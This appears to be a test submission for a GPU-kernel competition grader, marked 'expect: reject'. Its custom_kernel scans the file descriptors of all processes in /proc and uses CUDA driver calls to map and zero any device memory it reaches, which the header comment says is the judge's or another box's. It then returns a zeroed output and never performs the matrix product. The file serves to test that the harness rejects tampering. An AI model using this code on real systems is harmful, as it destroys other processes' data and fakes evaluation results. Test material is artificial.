# expect: reject
# problem: gemm
# Takes every descriptor that it can reach for device memory of the judge or of another box, and overwrites it.
import ctypes
import os

driver = ctypes.CDLL("libcuda.so.1")
SIZE = 2 << 20


class Access(ctypes.Structure):
    _fields_ = [("type", ctypes.c_int), ("id", ctypes.c_int), ("flags", ctypes.c_int)]


def overwrite(number):
    handle, place = ctypes.c_uint64(), ctypes.c_uint64()
    if driver.cuMemImportFromShareableHandle(ctypes.byref(handle), ctypes.c_void_p(number), 1):
        return
    if driver.cuMemAddressReserve(
        ctypes.byref(place), ctypes.c_size_t(SIZE), ctypes.c_size_t(0), ctypes.c_uint64(0), ctypes.c_uint64(0)
    ):
        return
    if driver.cuMemMap(place, ctypes.c_size_t(SIZE), ctypes.c_size_t(0), handle, ctypes.c_uint64(0)):
        return
    access = Access(1, 0, 3)
    driver.cuMemSetAccess(place, ctypes.c_size_t(SIZE), ctypes.byref(access), ctypes.c_size_t(1))
    driver.cuMemsetD32_v2(place, ctypes.c_uint32(0), ctypes.c_size_t(SIZE // 4))


def custom_kernel(data):
    for folder in ["/proc/self/fd", *(f"/proc/{name}/fd" for name in filter(str.isdigit, os.listdir("/proc")))]:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            try:
                number = int(name) if folder == "/proc/self/fd" else os.open(f"{folder}/{name}", os.O_RDWR)
            except OSError:
                continue
            overwrite(number)
    return data[2].zero_()
